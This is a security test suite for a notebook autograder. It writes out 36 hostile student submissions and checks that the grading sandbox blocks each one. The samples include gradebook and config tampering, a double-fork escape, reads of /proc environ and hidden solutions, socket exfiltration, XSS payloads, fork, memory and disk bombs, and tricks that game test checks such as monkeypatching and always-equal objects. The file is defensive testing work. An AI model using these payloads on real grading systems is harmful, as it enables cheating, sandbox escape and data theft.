"""Adversarial submissions A01–A36 (research note grading-security.md §5), graded for real.

Every hostile submission below is a copy of the course's own module 00 assignment with an
attack added, graded through ``apprentice.grading.batch.grade`` in one batch together with
honest "control" learners. Each case asserts its score and status; the suite as a whole
asserts that every learner of the batch was graded, that the control learners still earn full
marks, that course files are unchanged, that no manual score appeared and that no jailed
process outlived grading.
"""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
import json
import os
import re
import socket
import sqlite3
import threading
import time
from pathlib import Path

import nbformat
import pytest

from apprentice import notebooks as nbs
from apprentice.feedback import generate as generate_feedback
from apprentice.grading.batch import grade

from ..content.harness import REPO, assignment, make_course, sandbox_available

MODULE = "00-orientation"
NOTEBOOK = "orientation-assignment.ipynb"
FULL = 11.0
SECRET = "apprentice-test-secret-7f3a"
FIRST_UID = 62000  # a uid range of its own, so other tests' live kernels never count

pytestmark = [pytest.mark.slow, pytest.mark.sandbox, pytest.mark.xdist_group(name="adversarial")]


def _require_sandbox():
    if not sandbox_available():
        if os.environ.get("APPRENTICE_REQUIRE_SANDBOX"):
            pytest.fail(
                "the grading sandbox is required here but does not work (apprentice doctor)"
            )
        pytest.skip("the grading sandbox does not work on this host")


# --- building submissions ---------------------------------------------------------------------


def solution_nb():
    nb = nbs.read(REPO / "exercises" / MODULE / NOTEBOOK)
    answers = assignment(MODULE).answers
    for cell in nb.cells:
        if nbs.grade_id(cell) in answers:
            cell.source = answers[nbs.grade_id(cell)].solution
    return nb


def with_answer(gid: str, source: str, nb=None):
    nb = nb or solution_nb()
    for cell in nb.cells:
        if nbs.grade_id(cell) == gid:
            cell.source = source
    return nb


def add_cell(nb, source: str, *, after: str | None = None, kind: str = "code"):
    new = (
        nbformat.v4.new_code_cell(source)
        if kind == "code"
        else nbformat.v4.new_markdown_cell(source)
    )
    index = len(nb.cells)
    if after:
        index = next(i for i, c in enumerate(nb.cells) if nbs.grade_id(c) == after) + 1
    nb.cells.insert(index, new)
    return nb


WRONG_RATE = "def error_rate(log):\n    return 0.5\n"


def case_cells(root: Path, listener_port: int) -> dict[str, object]:
    """learner id -> notebook (NotebookNode) or raw bytes, or a dict of files."""
    root_s = str(root)
    cases: dict[str, object] = {}
    # A01: write the gradebook (own and others' manual scores)
    cases["a01-gradebook-write"] = with_answer(
        "error-rate-answer",
        f"""
import sqlite3
for path in [{root_s + "/gradebook.db"!r}, "../../../gradebook.db", "../gradebook.db", "gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set manual_score = 99")
        db.commit()
        print("wrote", path)
    except Exception as error:
        print("blocked", path, type(error).__name__)
{WRONG_RATE}""",
    )
    # A02: append code to the course configuration
    cases["a02-config-write"] = with_answer(
        "error-rate-answer",
        f"""
for path in [{root_s + "/nbgrader_config.py"!r}, {root_s + "/grader_config.py"!r}, "../../../grader_config.py"]:
    try:
        with open(path, "a") as handle:
            handle.write("\\nimport os; os.system('touch /tmp/pwned')\\n")
        print("appended", path)
    except Exception as error:
        print("blocked", type(error).__name__)
{WRONG_RATE}""",
    )
    # A03: setsid + double fork that writes later
    cases["a03-escape"] = add_cell(
        solution_nb(),
        f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(6)
        for path in [{root_s + "/escaped.txt"!r}, "/tmp/escaped.txt"]:
            try:
                open(path, "w").write("escaped")
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
""",
    )
    # A04: skip-execution tag on every test cell, with a wrong answer
    nb = with_answer("error-rate-answer", WRONG_RATE)
    for cell in nb.cells:
        if nbs.is_test(cell):
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
    cases["a04-skip-tag"] = nb
    # A05: input transformer that turns every later cell into `pass`
    cases["a05-transformer"] = with_answer(
        "error-rate-answer",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n" + WRONG_RATE,
    )
    # A06: duplicated grade cell; bogus schema version
    nb = solution_nb()
    test = next(c for c in nb.cells if nbs.grade_id(c) == "error-rate-tests")
    nb.cells.append(copy.deepcopy(test))
    nb.cells[-1]["id"] = "duplicate-cell"
    cases["a06-duplicate-grade-id"] = nb
    nb = solution_nb()
    next(c for c in nb.cells if nbs.grade_id(c) == "error-rate-tests").metadata["nbgrader"][
        "schema_version"
    ] = 99
    cases["a06-bogus-schema"] = nb
    # A07: look for hidden tests everywhere it might find them
    cases["a07-read-hidden"] = add_cell(
        solution_nb(),
        f"""
import glob, os
found = []
for pattern in [{root_s + "/solutions/**/*.ipynb"!r}, "../../../solutions/**/*.ipynb", "/*.ipynb",
                "/home/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb", "/root/*.ipynb"]:
    found += glob.glob(pattern, recursive=True)
print("notebooks found:", [p for p in found if p.endswith(".ipynb")])
for path in [{root_s + "/gradebook.db"!r}, "/proc/1/environ"]:
    try:
        print(open(path, "rb").read()[:200])
    except Exception as error:
        print("cannot read", path, type(error).__name__)
""",
    )
    # A08: network exfiltration to a listener the test runs on the host
    cases["a08-network"] = add_cell(
        solution_nb(),
        f"""
import socket
for host in ["127.0.0.1", "1.1.1.1"]:
    try:
        s = socket.create_connection((host, {listener_port}), timeout=2)
        s.sendall(b"exfiltrated")
        print("connected", host)
    except Exception as error:
        print("no network", host, type(error).__name__)
""",
    )
    # A10: forged submission time
    cases["a10-forged-timestamp"] = {
        NOTEBOOK: solution_nb(),
        "timestamp.txt": b"2020-01-01 00:00:00.000000 UTC",
    }
    # A11: HTML and JavaScript in outputs and in a markdown cell
    nb = add_cell(
        solution_nb(),
        """
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('xss-output')</script><img src=x onerror=alert('xss-img')>"))
display(Javascript("alert('xss-js')"))
""",
    )
    cases["a11-html-js"] = add_cell(
        nb,
        "My notes <script>alert('xss-markdown')</script> <img src=x onerror=alert('xss-md-img')>",
        kind="markdown",
    )
    # A12: values whose equality always says yes
    cases["a12-always-equal"] = with_answer(
        "error-rate-answer",
        """
class Yes(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __lt__(self, other):
        return True
    def __sub__(self, other):
        return Yes(0.0)
    def __rsub__(self, other):
        return Yes(0.0)
    def __abs__(self):
        return Yes(0.0)
def error_rate(log):
    return Yes(0.0)
""",
    )
    # A13: monkeypatch what tests might use
    cases["a13-monkeypatch"] = with_answer(
        "error-rate-answer",
        """
import builtins, math
import numpy as np
import pandas as pd
math.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
pd.testing.assert_frame_equal = lambda *a, **k: None
"""
        + WRONG_RATE,
    )
    # A14: the kernel dies (os._exit) after the first three exercises
    cases["a14-os-exit"] = with_answer("requests-per-minute-answer", "import os\nos._exit(1)\n")
    # A15: a loop that ignores interrupts
    cases["a15-sigint-ignored"] = with_answer(
        "latency-summary-answer",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
    )
    # A16: a plain infinite loop after a correct definition
    sol = assignment(MODULE).answers["latency-summary-answer"].solution
    cases["a16-plain-loop"] = with_answer(
        "latency-summary-answer", sol + "\nwhile True:\n    pass\n"
    )
    # A17: memory bomb
    cases["a17-memory-bomb"] = add_cell(
        solution_nb(), "hog = bytearray(8 * 1024 ** 3)\n", after="setup"
    )
    # A18: fork bomb
    cases["a18-fork-bomb"] = add_cell(
        solution_nb(),
        """
import os, time
children = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print("stopped after", children, type(error).__name__)
""",
        after="setup",
    )
    # A19: a flood of output
    cases["a19-output-flood"] = add_cell(
        solution_nb(),
        "for _ in range(2000):\n    print('x' * 100_000, flush=True)\n",
        after="errors-by-endpoint-tests",
    )
    # A20: fill the disk
    cases["a20-disk-fill"] = add_cell(
        solution_nb(),
        """
for path in ["big.bin", "/tmp/big.bin"]:
    try:
        with open(path, "wb") as handle:
            for _ in range(1024):
                handle.write(b"0" * 1024 * 1024)
    except OSError as error:
        print(path, type(error).__name__, error.errno)
""",
        after="setup",
    )
    # A21–A25: tampering with test cells
    nb = solution_nb()
    nb.cells = [c for c in nb.cells if nbs.grade_id(c) != "error-rate-tests"]
    cases["a21-deleted-test-cell"] = nb
    nb = solution_nb()
    next(c for c in nb.cells if nbs.grade_id(c) == "latency-summary-tests").metadata.pop("nbgrader")
    cases["a22-test-metadata-removed"] = nb
    nb = solution_nb()
    next(c for c in nb.cells if nbs.grade_id(c) == "minutes-over-tests").metadata["nbgrader"][
        "grade_id"
    ] = "renamed"
    cases["a23-renamed-grade-id"] = nb
    nb = with_answer("error-rate-answer", WRONG_RATE)
    test = next(c for c in nb.cells if nbs.grade_id(c) == "error-rate-tests")
    test.source = "pass"
    test.metadata["nbgrader"]["points"] = 100
    test.cell_type = "markdown"
    test.pop("outputs", None)
    test.pop("execution_count", None)
    cases["a24-test-cell-edited"] = nb
    nb = solution_nb()
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "R"}
    cases["a25-kernelspec"] = nb
    # A26, A28: broken files
    cases["a26-not-json"] = b"this is not a notebook\n"
    cases["a26-truncated"] = nbformat.writes(solution_nb()).encode()[:5000]
    cases["a26-empty"] = b""
    cases["a26-oversized"] = b'{"cells": [], "pad": "' + b"x" * (21 * 1024 * 1024) + b'"}'
    cases["a28-not-utf8"] = b'{"cells": [], "nbformat": 4, "text": "\xff\xfe"}'
    cases["a28-nul-bytes"] = b'{"cells": [\x00], "nbformat": 4}'
    cases["a28-deep-json"] = b"[" * 200_000 + b"]" * 200_000
    # A27: renamed notebook
    cases["a27-renamed-notebook"] = {"my-work.ipynb": solution_nb(), "notes.ipynb": solution_nb()}
    # A30: correct code that talks on stderr and warns
    cases["a30-stderr-noise"] = add_cell(
        solution_nb(),
        """
import sys, warnings
print("debug: starting", file=sys.stderr)
warnings.warn("this is only a warning", UserWarning)
warnings.warn("old API", DeprecationWarning)
""",
        after="setup",
    )
    # A31: SystemExit and KeyboardInterrupt raised by learner code
    nb = add_cell(solution_nb(), "raise SystemExit(3)\n", after="setup")
    nb = add_cell(nb, "import sys\nsys.exit()\n", after="setup")
    cases["a31-system-exit"] = add_cell(nb, "raise KeyboardInterrupt\n", after="setup")
    # A32: an atexit handler that blocks shutdown
    cases["a32-atexit-sleep"] = add_cell(
        solution_nb(), "import atexit, time\natexit.register(time.sleep, 120)\n"
    )
    # A33, A34: environment and other processes
    cases["a33-environment"] = add_cell(
        solution_nb(),
        """
import os
print(sorted(os.environ.items()))
print("graded" if os.environ.get("NBGRADER_EXECUTION") else "not marked as graded")
""",
    )
    cases["a34-proc"] = add_cell(
        solution_nb(),
        """
import os
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("visible processes:", len(pids))
for pid in pids:
    try:
        print(pid, open(f"/proc/{pid}/cmdline", "rb").read()[:120])
    except Exception as error:
        print(pid, type(error).__name__)
""",
    )
    # A35: symlinks in the submission
    cases["a35-symlink"] = {
        "__symlink__" + NOTEBOOK: str(root / "gradebook.db"),
        "__symlink__requests-2026-03-17.csv": str(root / "grader_config.py"),
    }
    return cases


def write_case(folder: Path, case) -> None:
    folder.mkdir(parents=True)
    if isinstance(case, bytes):
        (folder / NOTEBOOK).write_bytes(case)
    elif isinstance(case, dict) and "cells" not in case:
        for name, content in case.items():
            if name.startswith("__symlink__"):
                os.symlink(content, folder / name.removeprefix("__symlink__"))
            elif isinstance(content, bytes):
                (folder / name).write_bytes(content)
            else:
                nbformat.write(content, str(folder / name))
    else:
        nbformat.write(case, str(folder / NOTEBOOK))


# --- the batch ----------------------------------------------------------------------------------


def _digest(paths: list[Path]) -> dict[str, str]:
    out = {}
    for base in paths:
        files = [base] if base.is_file() else sorted(p for p in base.rglob("*") if p.is_file())
        for path in files:
            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _jailed_processes(first_uid: int, slots: int = 64) -> list[str]:
    uids = {str(first_uid + i) for i in range(slots)}
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        uid = next((line.split()[1] for line in text.splitlines() if line.startswith("Uid:")), None)
        if uid in uids:
            found.append(status.parent.name)
    return found


def _still_running(first_uid: int, patience: float = 30) -> list[str]:
    """Jailed processes left once their jails have had time to be torn down (a busy host can
    take a few seconds to reap a killed namespace)."""
    deadline = time.monotonic() + patience
    while (found := _jailed_processes(first_uid)) and time.monotonic() < deadline:
        time.sleep(1)
    return found


class Listener(threading.Thread):
    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            self.received.append(conn.recv(100))
            conn.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    _require_sandbox()
    root = tmp_path_factory.mktemp("adversarial") / "course"
    course = make_course(root)
    with open(root / "grader_config.py", "a") as handle:
        handle.write(
            "\nc.Grader.cell_timeout = 6\nc.Grader.notebook_timeout = 120\n"
            f"c.Sandbox.first_uid = {FIRST_UID}\n"
        )
    course = type(course).open(root)
    listener = Listener()
    listener.start()
    cases = case_cells(root, listener.port)
    for name, case in cases.items():
        write_case(course.folder("submitted") / name / MODULE, case)
    for i in range(3):  # honest learners spread through the batch (ids sort between the cases)
        write_case(
            course.folder("submitted") / f"a{i * 15 + 5:02d}-zz-control" / MODULE, solution_nb()
        )
    os.environ["APPRENTICE_TEST_SECRET"] = SECRET
    protected = [
        root / "grader_config.py",
        root / "nbgrader_config.py",
        root / "solutions",
        root / "exercises",
    ]
    before = _digest(protected)
    started = dt.datetime.now(dt.UTC)
    summary = grade(course, MODULE, jobs=2)
    time.sleep(7)  # longer than the A03 escapee's sleep
    listener.stop = True
    results = {}
    for outcome in summary.outcomes:
        path = course.state / "results" / MODULE / f"{outcome.student}.json"
        results[outcome.student] = json.loads(path.read_text())
    return {
        "course": course,
        "summary": summary,
        "outcomes": {o.student: o for o in summary.outcomes},
        "results": results,
        "cases": cases,
        "listener": listener,
        "before": before,
        "after": _digest(protected),
        "started": started,
        "jailed": _still_running(FIRST_UID),
    }


def nb_result(batch, student):
    return batch["results"][student]["notebooks"][NOTEBOOK]


def verdict(batch, student, gid):
    return next(v for v in nb_result(batch, student)["verdicts"] if v["grade_id"] == gid)


def autograded_text(batch, student) -> str:
    path = batch["course"].folder("autograded") / student / MODULE / NOTEBOOK
    return path.read_text() if path.exists() else ""


def mentor_copy_text(batch, student) -> str:
    path = batch["course"].state / "results" / MODULE / student / NOTEBOOK
    return path.read_text() if path.exists() else ""


def output_text(batch, student) -> str:
    """Everything the learner's cells printed or displayed, as the grader recorded it for
    mentors (feedback withholds what ran after hidden tests)."""
    nb = nbformat.reads(mentor_copy_text(batch, student), as_version=4)
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts.append(out.get("text", ""))
            parts.append(out.get("data", {}).get("text/plain", ""))
            parts.append("\n".join(out.get("traceback", [])) + out.get("ename", ""))
    return "\n".join(parts)


def db_rows(batch, sql, *args):
    db = sqlite3.connect(batch["course"].root / "gradebook.db")
    try:
        return db.execute(sql, args).fetchall()
    finally:
        db.close()


# --- batch-wide guarantees -----------------------------------------------------------------------


def test_every_learner_in_the_batch_was_graded(batch):
    expected = set(batch["cases"]) | {f"a{i * 15 + 5:02d}-zz-control" for i in range(3)}
    assert set(batch["outcomes"]) == expected
    rows = {r[0] for r in db_rows(batch, "select distinct student from apprentice_status")}
    assert rows == expected, f"learners without a status row: {sorted(expected - rows)}"


def test_honest_learners_keep_full_marks_between_hostile_ones(batch):
    for i in range(3):
        outcome = batch["outcomes"][f"a{i * 15 + 5:02d}-zz-control"]
        assert (outcome.status, outcome.score) == ("ok", FULL)


def test_course_files_are_unchanged(batch):
    assert batch["after"] == batch["before"]
    assert not (batch["course"].root / "escaped.txt").exists()


def test_gradebook_holds_only_the_expected_rows(batch):
    assert db_rows(batch, "select count(*) from grade where manual_score is not null") == [(0,)]
    assert db_rows(batch, "select count(*) from grade where extra_credit is not null") == [(0,)]
    assert db_rows(batch, "select name from assignment") == [(MODULE,)]
    students = {r[0] for r in db_rows(batch, "select id from student")}
    assert students <= set(batch["outcomes"]) | {"a09-regrade", "a36-one", "a36-two", "a29-clamp"}
    over = db_rows(
        batch,
        "select count(*) from grade g join base_cell c on g.cell_id = c.id "
        "join grade_cells gc on gc.id = c.id where g.auto_score > gc.max_score",
    )
    assert over == [(0,)], "no score above its cell's maximum"


def test_no_jailed_process_outlives_grading(batch):
    assert batch["jailed"] == [], f"processes of the jail uids still running: {batch['jailed']}"


# --- one test per case ---------------------------------------------------------------------------


def test_a01_gradebook_is_out_of_reach(batch):
    assert verdict(batch, "a01-gradebook-write", "error-rate-tests")["points"] == 0
    printed = output_text(batch, "a01-gradebook-write")
    assert "blocked" in printed and "wrote" not in printed


def test_a02_course_configuration_is_out_of_reach(batch):
    assert batch["outcomes"]["a02-config-write"].status == "ok"
    assert not Path("/tmp/pwned").exists()


def test_a03_escaped_processes_are_killed(batch):
    assert batch["outcomes"]["a03-escape"].score == FULL
    assert not (batch["course"].root / "escaped.txt").exists()


def test_a04_skip_execution_tag_does_not_skip_tests(batch):
    assert verdict(batch, "a04-skip-tag", "error-rate-tests")["points"] == 0
    assert verdict(batch, "a04-skip-tag", "latency-summary-tests")["passed"]


def test_a05_input_transformer_cannot_pass_tests(batch):
    # The tests never run in the kernel, so turning its cells into `pass` only breaks the
    # learner's own later answers; the wrong answer defined before the trick still fails.
    assert verdict(batch, "a05-transformer", "error-rate-tests")["points"] == 0
    assert verdict(batch, "a05-transformer", "latency-summary-tests")["points"] == 0
    assert verdict(batch, "a05-transformer", "grading-facts-tests")["passed"]
    assert batch["outcomes"]["a05-transformer"].score == 1


@pytest.mark.parametrize("student", ["a06-duplicate-grade-id", "a06-bogus-schema"])
def test_a06_ambiguous_metadata_marks_only_that_submission_invalid(batch, student):
    result = nb_result(batch, student)
    assert result["status"] == "invalid-notebook"
    assert "grade id" in result["message"] or "schema version" in result["message"]
    flagged = db_rows(
        batch,
        "select flagged from submitted_notebook sn join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?",
        student,
    )
    assert flagged == [(1,)]
    scores = db_rows(
        batch,
        "select g.auto_score from grade g join submitted_notebook sn on g.notebook_id = sn.id join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?",
        student,
    )
    assert scores and all(s is None for (s,) in scores), (
        "an ungraded submission keeps no score, not a silent 0"
    )


def test_a07_hidden_tests_are_nowhere_to_be_read(batch):
    printed = output_text(batch, "a07-read-hidden")
    assert "notebooks found: []" in printed
    text = autograded_text(batch, "a07-read-hidden")
    assert "BEGIN HIDDEN" not in text and "requests-2026-03-24" not in text
    assert batch["outcomes"]["a07-read-hidden"].score == FULL


def test_a08_no_network(batch):
    assert batch["listener"].received == []
    printed = output_text(batch, "a08-network")
    assert "no network 127.0.0.1" in printed and "connected" not in printed


def test_a10_receipt_time_is_the_graders(batch):
    (stamp,) = db_rows(
        batch,
        "select timestamp from submitted_assignment where student_id = ?",
        "a10-forged-timestamp",
    )[0]
    assert stamp.startswith(str(batch["started"].year)) and not stamp.startswith("2020")


def test_a11_html_and_javascript_are_inert_in_every_mentor_view(batch):
    from nbconvert import HTMLExporter

    course = batch["course"]
    text = autograded_text(batch, "a11-html-js")
    nb = nbformat.reads(text, as_version=4)
    mimes = {
        k for c in nb.cells if c.cell_type == "code" for o in c.outputs for k in o.get("data", {})
    }
    assert mimes <= {"text/plain", "image/png", "image/jpeg"}, mimes
    assert "<script" not in "".join(c.source for c in nb.cells if c.cell_type == "markdown")
    body, _ = HTMLExporter(config=course.config).from_notebook_node(nb)
    made = generate_feedback(course, MODULE, students=["a11-html-js"])
    assert made.done == ["a11-html-js"], made.errors
    html = next((course.folder("feedback") / "a11-html-js" / MODULE).glob("*.html")).read_text()
    for page in (body, html):  # the code that tried it may show, escaped; no live tag may
        assert not re.search(r"<script>\s*alert", page)
        assert not re.search(r"<img[^>]*onerror", page)
    assert "BEGIN MARK SCHEME" not in html and "model answer" not in html.lower()
    assert batch["outcomes"]["a11-html-js"].score == FULL


def test_a12_objects_that_claim_equality_fail(batch):
    v = verdict(batch, "a12-always-equal", "error-rate-tests")
    assert v["points"] == 0
    assert any("not plain data" in c["message"] for c in v["checks"])


def test_a13_monkeypatching_the_kernel_changes_nothing(batch):
    assert verdict(batch, "a13-monkeypatch", "error-rate-tests")["points"] == 0
    assert verdict(batch, "a13-monkeypatch", "errors-by-endpoint-tests")["passed"]


def test_a14_kernel_death_is_an_explicit_status(batch):
    result = nb_result(batch, "a14-os-exit")
    assert result["status"] == "kernel-died"
    assert verdict(batch, "a14-os-exit", "latency-summary-tests")["passed"]
    later = verdict(batch, "a14-os-exit", "minutes-over-tests")
    assert later["points"] == 0 and "not reached" in later["error"]


def test_a15_interrupt_ignoring_loop_times_out(batch):
    result = nb_result(batch, "a15-sigint-ignored")
    assert result["status"] == "timeout"
    assert verdict(batch, "a15-sigint-ignored", "error-rate-tests")["passed"]
    assert verdict(batch, "a15-sigint-ignored", "minutes-over-tests")["points"] == 0


def test_a16_plain_loop_is_interrupted_and_grading_continues(batch):
    result = nb_result(batch, "a16-plain-loop")
    assert result["status"] == "timeout"
    assert batch["outcomes"]["a16-plain-loop"].score == FULL


@pytest.mark.parametrize(
    "student",
    [
        "a17-memory-bomb",
        "a20-disk-fill",
        "a30-stderr-noise",
        "a31-system-exit",
        "a32-atexit-sleep",
        "a25-kernelspec",
    ],
)
def test_resource_abuse_and_noise_cost_nothing_else(batch, student):
    outcome = batch["outcomes"][student]
    assert (outcome.status, outcome.score) == ("ok", FULL), outcome


def test_a18_fork_bomb_is_capped_with_an_explicit_outcome(batch):
    outcome = batch["outcomes"]["a18-fork-bomb"]
    # the learner's own later cells may fail for want of processes; the grader must not
    assert outcome.status in ("ok", "kernel-died"), outcome
    assert verdict(batch, "a18-fork-bomb", "grading-facts-tests")["passed"]


def test_a17_a18_a20_limits_hold(batch):
    assert "MemoryError" in output_text(batch, "a17-memory-bomb")
    assert "stopped after" in output_text(batch, "a18-fork-bomb")
    text = output_text(batch, "a20-disk-fill")
    assert "big.bin OSError 27" in text or "big.bin OSError 28" in text


def test_a19_output_flood_is_cut_off(batch):
    result = nb_result(batch, "a19-output-flood")
    assert result["status"] == "output-limit"
    assert verdict(batch, "a19-output-flood", "errors-by-endpoint-tests")["passed"]
    assert verdict(batch, "a19-output-flood", "minutes-over-tests")["points"] == 0
    path = batch["course"].folder("autograded") / "a19-output-flood" / MODULE / NOTEBOOK
    assert path.stat().st_size < 2 * 1024 * 1024


@pytest.mark.parametrize(
    "student", ["a21-deleted-test-cell", "a22-test-metadata-removed", "a23-renamed-grade-id"]
)
def test_a21_a23_missing_or_renamed_test_cells_are_put_back_and_graded(batch, student):
    assert batch["outcomes"][student].score == FULL
    assert len(nb_result(batch, student)["verdicts"]) == 6


def test_a24_edited_test_cell_is_restored(batch):
    v = verdict(batch, "a24-test-cell-edited", "error-rate-tests")
    assert (v["points"], v["max_points"]) == (0, 2)
    assert batch["outcomes"]["a24-test-cell-edited"].max_score == FULL + 4


@pytest.mark.parametrize(
    "student",
    [
        "a26-not-json",
        "a26-truncated",
        "a26-empty",
        "a26-oversized",
        "a28-not-utf8",
        "a28-nul-bytes",
        "a28-deep-json",
    ],
)
def test_a26_a28_broken_files_are_invalid_not_crashes(batch, student):
    result = nb_result(batch, student)
    assert result["status"] == "invalid-notebook", result
    assert "\n" not in result["message"] and result["message"]


def test_a27_renamed_notebook_is_missing_with_a_reason(batch):
    result = nb_result(batch, "a27-renamed-notebook")
    assert result["status"] == "missing" and "was not submitted" in result["message"]
    assert batch["outcomes"]["a27-renamed-notebook"].score == 0


def test_a33_environment_is_scrubbed(batch):
    text = output_text(batch, "a33-environment")
    assert SECRET not in text and "not marked as graded" in text
    assert "('HOME', '/home/learner')" in text
    assert batch["outcomes"]["a33-environment"].score == FULL


def test_a34_other_processes_are_invisible(batch):
    text = output_text(batch, "a34-proc")
    count = int(text.split("visible processes: ")[1].split()[0])
    assert count < 10
    assert SECRET not in text and "pytest" not in text


def test_a35_symlinks_are_never_followed(batch):
    result = nb_result(batch, "a35-symlink")
    assert result["status"] == "missing"
    archived = list((batch["course"].state / "archive" / MODULE / "a35-symlink").rglob("*"))
    assert not any(p.is_symlink() for p in archived)


# --- cases that need their own sequence -------------------------------------------------------------


def test_a09_failed_regrade_never_keeps_a_stale_score(batch):
    course = batch["course"]
    folder = course.folder("submitted") / "a09-regrade" / MODULE
    write_case(folder, solution_nb())
    first = grade(course, MODULE, students=["a09-regrade"])
    assert first.outcomes[0].score == FULL
    (folder / NOTEBOOK).write_text(
        nbformat.writes(with_answer("error-rate-answer", "import os\nos._exit(1)\n"))
    )
    second = grade(course, MODULE, students=["a09-regrade"])
    outcome = second.outcomes[0]
    assert outcome.status == "kernel-died" and outcome.score < FULL
    rows = db_rows(
        batch,
        "select gc.name, g.auto_score from grade g join base_cell gc on g.cell_id = gc.id join submitted_notebook sn on g.notebook_id = sn.id join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?",
        "a09-regrade",
    )
    scores = dict(rows)
    assert scores["error-rate-tests"] == 0 and scores["minutes-over-tests"] == 0
    assert scores["grading-facts-tests"] == 1


def test_a36_concurrent_batches_and_a_locked_gradebook_do_not_abort(batch):
    course = batch["course"]
    for name in ("a36-one", "a36-two"):
        write_case(course.folder("submitted") / name / MODULE, solution_nb())
    lock = sqlite3.connect(course.root / "gradebook.db", timeout=30, check_same_thread=False)
    lock.execute("begin exclusive")
    threading.Timer(3.0, lock.rollback).start()
    results = {}

    def run(student):
        try:
            results[student] = grade(course, MODULE, students=[student])
        except Exception as exc:  # noqa: BLE001 -- reported by the assertion below
            results[student] = exc

    threads = [threading.Thread(target=run, args=(s,)) for s in ("a36-one", "a36-two")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(600)
    lock.close()
    failed = {s: repr(r) for s, r in results.items() if isinstance(r, Exception)}
    assert not failed, f"a batch aborted: {failed}"
    assert {s: r.outcomes[0].score for s, r in results.items()} == {
        "a36-one": FULL,
        "a36-two": FULL,
    }


def test_a29_scores_are_clamped_to_the_cell_maximum(batch, tmp_path):
    from apprentice.grading import gradebook
    from apprentice.grading.archive import archive

    course = batch["course"]
    folder = tmp_path / "sub"
    write_case(folder, solution_nb())
    archived = archive(course.state / "archive", MODULE, "a29-clamp", folder)
    forged = {
        "engine": "test",
        "notebooks": {
            NOTEBOOK: {
                "status": "ok",
                "message": "",
                "answered": {},
                "written": {},
                "verdicts": [
                    {
                        "grade_id": "error-rate-tests",
                        "points": 50.0,
                        "max_points": 2.0,
                        "passed": True,
                        "checks": [],
                        "objectives": [],
                    },
                    {
                        "grade_id": "latency-summary-tests",
                        "points": -3.0,
                        "max_points": 2.0,
                        "passed": False,
                        "checks": [],
                        "objectives": [],
                    },
                ],
            }
        },
    }
    gradebook.record(
        db_url=course.db_url,
        course_id=course.course_id,
        archived=archived,
        result=forged,
        sandboxed=True,
    )
    rows = dict(
        db_rows(
            batch,
            "select gc.name, g.auto_score from grade g join base_cell gc on g.cell_id = gc.id join submitted_notebook sn on g.notebook_id = sn.id join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?",
            "a29-clamp",
        )
    )
    assert rows["error-rate-tests"] == 2.0 and rows["latency-summary-tests"] == 0.0
